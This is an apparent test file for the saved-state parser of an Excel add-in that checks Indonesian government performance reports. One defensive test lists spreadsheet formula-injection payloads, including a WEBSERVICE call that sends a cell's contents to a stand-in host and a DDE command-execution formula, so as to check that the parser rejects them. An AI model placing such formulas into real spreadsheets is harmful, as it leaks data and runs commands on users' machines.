import fc from 'fast-check';
import { keepsNothing, NOTHING_SAVED, parseSaved, type SavedState, savedXml, writeSaved } from '#app';
import { RULE_IDS } from '#core/finding';
import { anyCharacter } from '../support/any-text';

const time = '2026-01-02T03:04:05.000Z';

/** Texts with what XML, JSON and JavaScript objects stumble over. */
const text = fc.oneof(
  fc.string({ unit: anyCharacter }),
  fc.constantFrom(
    '',
    '</sakip>',
    ']]>',
    'a & b',
    '"',
    '\\u0026',
    '__proto__',
    'toString',
    '\r\n',
    '\ufffe',
    '\u2028',
  ),
);
const rule = fc.constantFrom(...RULE_IDS);
const number = fc.double({ noNaN: true, noDefaultInfinity: true }).map((one) => one + 0);
const value = fc.oneof(
  text,
  number,
  fc.boolean(),
  fc.constant(null),
  fc.record({ error: fc.constantFrom('#N/A', '#DIV/0!', '#NAME?', '#REF!', '#GETTING_DATA') }),
);
const content = fc.record({ value, formula: text, format: text }, { requiredKeys: ['value'] });
const at = fc.record({
  sheet: fc.string({ minLength: 1 }),
  row: fc.nat(1_048_575),
  col: fc.nat(16_383),
});
const stamp = fc
  .date({ noInvalidDate: true, min: new Date(0), max: new Date('9999-12-31T00:00:00Z') })
  .map((date) => date.toISOString());
const change = fc.record({
  at,
  from: content,
  to: content,
  rule: fc.oneof(rule, fc.constant('hitung-ulang' as const)),
  reason: text,
});
const changes = fc.uniqueArray(change, {
  minLength: 1,
  maxLength: 4,
  selector: (one) => JSON.stringify(one.at),
});
const reason = text.filter((one) => one.trim() !== '');
const ignore = fc.record(
  { rule, fingerprint: text, table: text, about: text, reason, time: stamp },
  { requiredKeys: ['rule', 'table', 'about', 'reason', 'time'] },
);
const settings = fc.record(
  {
    tahun: fc.integer({ min: 1945, max: 2099 }),
    batas: fc.constantFrom(100, 110, 120),
    skala: fc.constantFrom('permendagri-86-2017' as const, 'sakip' as const),
    toleransi: fc.double({ min: 0, max: 100, noNaN: true }).map((one) => one + 0),
    polaritas: fc.dictionary(text, fc.constantFrom('naik' as const, 'turun' as const)),
  },
  { requiredKeys: [] },
);
const state: fc.Arbitrary<SavedState> = fc.record({
  settings,
  ignored: fc.array(ignore, { maxLength: 4 }),
  history: fc.array(fc.record({ time: stamp, changes }), { maxLength: 3 }),
});

/** What a reader of JSON sees; fast-check's objects may have no prototype. */
const plain = (one: unknown) => JSON.parse(JSON.stringify(one));

describe('the saved state as text', () => {
  it('can be read back, whatever it holds', () => {
    fc.assert(
      fc.property(state, (one) => {
        expect(plain(parseSaved(writeSaved(one)))).toEqual(plain(one));
      }),
    );
  });

  it('holds nothing that XML escapes or refuses, so that any program may write it anew', () => {
    fc.assert(
      fc.property(state, (one) => {
        expect(writeSaved(one)).toMatch(/^[\n\x20-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]*$/u);
        expect(writeSaved(one)).not.toMatch(/[<>&\x7f-\x9f]/);
        expect(savedXml(one)).toBe(`<sakip xmlns="urn:sakip-untuk-excel:1">${writeSaved(one)}</sakip>`);
      }),
    );
  });

  it('is JSON that a person can read, with the reason of changes once for all that share it', () => {
    const ignored = [{ rule: 'capaian' as const, table: 't', about: 'BAB III!G9', reason: 'benar', time }];
    const one = { from: { value: '79' }, to: { value: 79 }, rule: 'format-angka' as const, reason: 'teks' };
    const changes = [0, 1].map((row) => ({ ...one, at: { sheet: 'BAB III', row, col: 6 } }));
    expect(writeSaved({ settings: { tahun: 2024 }, ignored, history: [{ time, changes }] })).toBe(
      [
        '{',
        '"version": 1,',
        '"settings": {"tahun":2024},',
        '"ignored": [',
        `{"rule":"capaian","table":"t","about":"BAB III!G9","reason":"benar","time":"${time}"}`,
        '],',
        '"history": [',
        `{"time": "${time}", "deeds": [`,
        '{"rule": "format-angka", "reason": "teks", "cells": [',
        '{"sheet":"BAB III","cell":"G1","from":{"value":"79"},"to":{"value":79}},',
        '{"sheet":"BAB III","cell":"G2","from":{"value":"79"},"to":{"value":79}}',
        ']}',
        ']}',
        ']',
        '}',
      ].join('\n'),
    );
  });

  it('knows when there is nothing to keep', () => {
    expect(keepsNothing(NOTHING_SAVED)).toBe(true);
    expect(keepsNothing({ ...NOTHING_SAVED, settings: { tahun: undefined } as never })).toBe(true);
    expect(keepsNothing({ ...NOTHING_SAVED, settings: { toleransi: 0 } })).toBe(false);
    expect(keepsNothing({ ...NOTHING_SAVED, history: [{ time, changes: [] }] })).toBe(false);
  });
});

describe('a damaged or foreign text', () => {
  it('never throws, and gives a state that can be written, for any text and any JSON', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.json(),
          fc.json().map((one) => `{"version":1,"settings":${one}}`),
        ),
        (one) => {
          const read = parseSaved(one);
          if (typeof read === 'object') expect(plain(parseSaved(writeSaved(read)))).toEqual(plain(read));
        },
      ),
    );
  });

  it('never throws, and keeps what it understands, where parts of a state are exchanged for something else', () => {
    fc.assert(
      fc.property(state, fc.jsonValue(), fc.nat(), (one, odd, place) => {
        const places: string[] = [];
        const written: unknown = JSON.parse(writeSaved(one));
        JSON.stringify(written, (key, value) => {
          places.push(key);
          return value;
        });
        let at = 0;
        const changed = JSON.stringify(written, (_, value) =>
          at++ === (place % places.length) + 2 ? odd : value,
        );
        const read = parseSaved(changed);
        expect(read).toBeInstanceOf(Object);
        expect(plain(parseSaved(writeSaved(read as SavedState)))).toEqual(plain(read));
      }),
    );
  });

  it.each([
    ['nothing', ''],
    ['no JSON', '{"version":1,'],
    ['a list', '[]'],
    ['null', 'null'],
    ['no version', '{"settings":{}}'],
    ['no number', '{"version":"2","settings":{}}'],
    ['an older version', '{"version":0,"settings":{}}'],
    ['a deep nest', '['.repeat(5_000_000)],
    ['a text that is too long', `{"version":1${' '.repeat(16_000_000)}}`],
  ])('is no state: %s', (_, one) => {
    expect(parseSaved(one)).toBe('damaged');
  });

  it('is told from what a later version wrote', () => {
    for (const version of [2, 1.5, 10]) expect(parseSaved(`{"version":${version}}`)).toBe('newer');
  });

  const read = (rest: object): SavedState => {
    const state = parseSaved(JSON.stringify({ version: 1, ...rest }));
    if (typeof state !== 'object') throw new Error(state);
    return state;
  };

  it('knows no batch that would write a formula as if it were an error value', () => {
    const cell = (error: string) => ({
      sheet: 'A',
      cell: 'A1',
      from: { value: { error } },
      to: { value: 1 },
    });
    const history = (error: string) => [
      { time, deeds: [{ rule: 'capaian', reason: '', cells: [cell(error)] }] },
    ];
    expect(read({ history: history('#DIV/0!') }).history).toHaveLength(1);
    for (const error of ['=WEBSERVICE("https://jahat.test/?"&B5)', '+A1', "=cmd|'/c calc'!A0", '', '#REF!+1'])
      expect(read({ history: history(error) })).toEqual(NOTHING_SAVED);
  });

  it('takes what is missing for empty', () => {
    expect(read({})).toEqual(NOTHING_SAVED);
  });

  it('leaves settings out that no office can have chosen', () => {
    const settings = {
      tahun: '2024',
      batas: 0,
      skala: 'lain',
      toleransi: -1,
      polaritas: { a: 'naik', b: 'samping' },
      warna: 1,
    };
    expect(read({ settings })).toEqual({ ...NOTHING_SAVED, settings: { polaritas: { a: 'naik' } } });
    expect(parseSaved('{"version":1,"settings":{"toleransi":1e999}}')).toEqual(NOTHING_SAVED);
  });

  const whole = { rule: 'capaian', fingerprint: 'f', table: 't', about: 'a', reason: 'r', time };

  it.each([
    ['an unknown rule', { rule: 'lain' }],
    ['a reason without words', { reason: ' ' }],
    ['a time that is none', { time: 'kemarin' }],
    // Without it the ignore would hide every finding of the rule.
    ['a fingerprint that is none', { fingerprint: null }],
  ])('leaves an ignore out that has %s', (_, odd) => {
    expect(read({ ignored: [{ ...whole, ...odd }, whole] }).ignored).toEqual([whole]);
  });

  const cell = { sheet: 'S', cell: 'A1', from: { value: '1.234' }, to: { value: 1234, format: '#,##0' } };
  const other = { ...cell, cell: 'A2' };
  const deed = { rule: 'format-angka', reason: 'r', cells: [cell, other] };
  const good = { time, deeds: [deed] };

  it.each([
    ['no changes', []],
    ['no cells', [{ ...deed, cells: [] }]],
    ['a change beyond the grid', [{ ...deed, cells: [other, { ...cell, cell: 'A1048577' }] }]],
    ['a change of an area', [{ ...deed, cells: [other, { ...cell, cell: 'A1:B2' }] }]],
    ['a change of no known rule', [deed, { ...deed, rule: 'lain' }]],
    ['a value that no cell holds', [{ ...deed, cells: [other, { ...cell, to: { value: [1] } }] }]],
    ['two changes of one cell', [deed, { ...deed, cells: [cell] }]],
  ])('leaves a batch out as a whole that has %s', (_, deeds) => {
    expect(read({ history: [{ time, deeds }, good] }).history).toHaveLength(1);
  });
});
